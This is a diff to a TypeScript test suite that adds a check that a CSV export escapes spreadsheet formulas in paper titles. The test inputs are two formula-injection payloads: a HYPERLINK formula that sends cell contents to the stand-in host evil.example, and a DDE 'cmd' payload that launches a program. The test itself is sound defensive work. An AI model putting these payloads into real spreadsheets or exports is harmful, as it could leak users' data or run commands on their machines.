@@ -75,6 +75,15 @@ describe('renderJson', () => {
 });
 
 describe('renderCsv', () => {
+  it('writes titles a spreadsheet would run as formulas as text', () => {
+    const { csv } = render({ p1: '=HYPERLINK("http://evil.example/?"&A1,"x")', p2: "+cmd|' /C calc'!A0" });
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    const titles = rows.map((r) => r.paper_titles!).filter((t) => /HYPERLINK|cmd\|/.test(t));
+    expect(titles.length).toBeGreaterThan(0);
+    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+@]/);
+  });
+
+
   it('holds one row per community × top concept, quoting where needed', () => {
     const { csv } = render({ p1: 'Deep, "quoted" networks' });
     const rows = parse(csv, { columns: true }) as Record<string, string>[];
